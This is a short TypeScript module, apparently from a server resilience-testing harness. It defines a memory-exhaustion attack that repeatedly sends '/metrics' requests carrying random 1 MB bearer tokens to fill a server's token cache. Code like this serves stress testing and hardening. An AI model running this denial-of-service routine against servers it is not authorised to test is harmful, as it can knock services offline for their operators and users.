import { randomBytes } from "node:crypto";
import { type AttackOptions, onEachConnection, repeat, write } from "../../../runtime/src/http/attacks/attack.ts";

/** Bytes of each token: just below what Go allows for the head of a request. */
const size = 1_000_000;

/** Requests `/metrics` with a new bearer token of 1 MB each time: a cache of tokens that keeps them uses up the memory. */
export function largeTokens(options: AttackOptions): Promise<void> {
  const { path = "/metrics" } = options;
  const filler = "x".repeat(size);
  return onEachConnection(options, (socket) =>
    repeat(socket, 50, () => {
      const token = randomBytes(16).toString("hex") + filler;
      return write(socket, `GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n\r\n`);
    }),
  );
}
